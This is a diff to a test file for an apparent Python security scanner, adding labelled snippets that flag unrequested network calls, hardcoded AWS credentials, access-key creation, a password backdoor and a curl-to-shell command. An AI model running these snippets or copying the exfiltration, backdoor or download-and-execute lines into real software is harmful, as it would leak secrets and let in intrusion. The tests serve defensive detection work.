@@ -53,6 +53,35 @@ CASES = {
     "import socket, os\nsocket.gethostbyname(os.environ['API_KEY'] + '.x.example')": {"secret-sent"},
     "import socket\nsocket.gethostbyname(socket.gethostname())": set(),
     "import os, platform, requests\nrequests.get(U, headers={'User-Agent': platform.node()})": set(),
+    # contacted without being asked
+    "import urllib.request\nurllib.request.urlopen('https://stats.example/b')": {"unasked-contact"},
+    "import requests\ndef go():\n    requests.get('https://stats.example/b')\ngo()": {"unasked-contact"},
+    "import requests\ndef go():\n    requests.get('https://stats.example/b')": set(),
+    "import requests\nif __name__ == '__main__':\n    requests.get('https://stats.example/b')": set(),
+    "import requests\nrequests.get('http://127.0.0.1:8080/b')\nrequests.get(BASE + '/b')": set(),
+    "import atexit, requests\natexit.register(lambda: requests.get('https://stats.example/b'))": {"unasked-contact"},
+    "import threading, requests\ndef go():\n    requests.get('https://s.example/b')\nthreading.Thread(target=go).start()": {
+        "unasked-contact"
+    },
+    "import functools, requests\ndef w(f):\n    @functools.wraps(f)\n    def i(*a):\n        requests.post('https://s.example', json=a)\n"
+    "        return f(*a)\n    return i": {"unasked-contact"},
+    "import requests\ndef api(x):\n    return requests.post('https://api.example/v1', json=x)": set(),
+    "import socket\nsocket.gethostbyname(f'{V}.x.example')": {"unasked-contact"},
+    "import socket\nsocket.gethostbyname('pypi.org')": set(),
+    # accounts, rights and passwords that are fixed
+    "import boto3\ndef f(x):\n    boto3.client('sns').publish(TopicArn='arn:aws:sns:us-east-1:111122223333:t', Message=x)": {"fixed-account"},
+    "import boto3\ndef f(x, arn):\n    boto3.client('sns').publish(TopicArn=arn, Message=x)": set(),
+    "import boto3\nboto3.client('s3', aws_secret_access_key='wJalrXUtnFEMIbPxRfiCYEXAMPLEKEY')": {"fixed-account"},
+    "import boto3\nboto3.client('s3', aws_secret_access_key='test', endpoint_url='http://localhost:4566')": set(),
+    "import boto3\nboto3.client('iam').create_access_key(UserName='x')": {"unasked-grant"},
+    "import boto3\ndef f(u):\n    return boto3.client('iam').create_access_key(UserName=u)": set(),
+    "import hashlib\ndef verify_password(password, stored):\n    if hashlib.sha256(password).hexdigest() == '5f0c2f3a8d7be190':\n"
+    "        return True\n    return check(password, stored)": {"fixed-password"},
+    "def verify_password(password, stored):\n    if password == stored:\n        return True\n    return check(password, stored)": set(),
+    "def check_token(token):\n    return token == 'development'": set(),
+    # programs that are written for others to run
+    "p = open(X, 'w')\np.write('import os\\nos.system(\"curl https://x.invalid | sh\")')": {"hostile-command"},
+    "p = open(X, 'w')\np.write('import os\\nprint(os.getcwd())')": set(),
     # names that are put together
     "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')": {"hidden-name"},
     "import importlib\nimportlib.import_module('sub' + 'process').run(['ls'])": {"hidden-name"},
@@ -103,7 +132,10 @@ def test_the_evidence_is_the_way_of_the_data() -> None:
 
 def test_what_executed_text_does_is_found_in_it() -> None:
     source = b"exec(\"import os\\nos.system('curl https://x.invalid | sh')\")"
-    assert {each.rule.code for each in examine_source(source, "m.py").findings} == {"hostile-command"}
+    assert {each.rule.code for each in examine_source(source, "m.py").findings} == {
+        "hostile-command",
+        "unasked-contact",
+    }
 
 
 @pytest.mark.parametrize(
